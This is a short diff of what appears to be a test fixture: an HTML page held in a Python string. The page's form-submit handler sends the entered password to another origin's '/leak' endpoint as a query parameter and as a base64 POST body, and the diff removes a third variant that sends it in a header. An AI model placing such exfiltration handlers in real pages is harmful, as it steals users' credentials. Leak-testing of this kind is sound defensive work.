@@ -42,8 +42,6 @@ document.getElementById("f").addEventListener("submit", () => {
   fetch(other + "/leak?p=" + encodeURIComponent(pw), {mode: "no-cors", keepalive: true}).catch(() => {});
   fetch(other + "/leak", {method: "POST", mode: "no-cors", keepalive: true,
                           body: btoa(unescape(encodeURIComponent("grace:" + pw)))}).catch(() => {});
-  fetch(other + "/leak", {method: "POST", mode: "no-cors", keepalive: true,
-                          headers: {"X-Pw": encodeURIComponent(pw)}}).catch(() => {});
 });
 </script></body></html>"""
 
